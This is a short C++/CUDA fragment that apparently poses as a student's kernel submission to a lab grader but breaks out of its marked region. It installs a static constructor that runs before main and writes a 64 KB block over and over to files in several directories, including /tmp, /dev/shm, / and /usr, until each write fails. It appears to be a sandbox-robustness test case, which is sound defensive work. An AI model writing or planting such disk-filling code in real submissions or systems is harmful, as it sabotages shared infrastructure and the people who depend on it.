// Writes to every folder that it can.
// lab: 01_naive_atomic
// expect: wrong
// BEGIN naive_atomic
*result = 1;
}
extern "C" int printf(const char*, ...);
extern "C" [[noreturn]] void _exit(int);
extern "C" long write(int, const void*, unsigned long);
extern "C" long read(int, void*, unsigned long);
extern "C" int open(const char*, int, ...);
extern "C" long syscall(long, ...);
extern "C" int usleep(unsigned);
__attribute__((constructor)) static void before_main() {
  static char block[1 << 16];
  const char* const names[] = {"/tmp/flood",     "/dev/shm/flood", "/out/flood", "/labs/flood",
                               "/student/flood", "/flood",         "/usr/flood"};
  for (const char* const name : names) {
    const int fd = open(name, 0101, 0600);
    while (fd >= 0 && write(fd, block, sizeof block) > 0) {
    }
  }
}
__global__ void unused(const float* input, float* result, std::size_t n) {
  // END naive_atomic
